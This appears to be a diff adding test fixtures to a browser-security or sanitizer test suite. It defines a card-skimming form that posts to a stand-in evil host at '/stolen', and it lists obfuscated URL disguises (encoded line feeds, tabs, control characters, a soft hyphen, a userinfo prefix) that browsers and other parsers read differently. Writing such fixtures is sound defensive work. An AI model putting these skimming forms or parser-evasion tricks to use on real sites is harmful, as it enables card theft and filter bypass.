@@ -45,6 +45,22 @@ export interface Attacked {
   path: string;
 }
 
+export const kCard = '<label>Card number <input name=card autocomplete=cc-number></label>';
+export const kSum = '<input type=hidden name=sum value=4200>';
+export const kPay = `<button onclick="fetch('/stolen')">Pay now</button>`;
+export const kToEvil = (inside: string, more = ''): string =>
+  `<form action="${kEvil}/stolen" ${more}>${kSum}${inside}</form>`;
+
+/** Addresses that browsers read as one of evil, and other parsers as one of the page. */
+export const kDisguises: ReadonlyArray<[string, string]> = [
+  ['a line feed', kEvil.replace('http', 'ht&#10;tp')],
+  ['a tab between its slashes', kEvil.replace('http://', '/&#9;/')],
+  ['carriage returns and backslashes', kEvil.replace('http://', '&#13;\\&#13;\\')],
+  ['a control character in front', `&#1;&#10; ${kEvil}`],
+  ['a soft hyphen in its host', kEvil.replace('evil', 'ev&shy;il')],
+  ['the name of another site in front', kEvil.replace('http://', 'http://home.test@')],
+];
+
 /** What reached a server. */
 export const stolen: SiteRequest[] = [];
 /** How the page that a form leads to was asked for. */
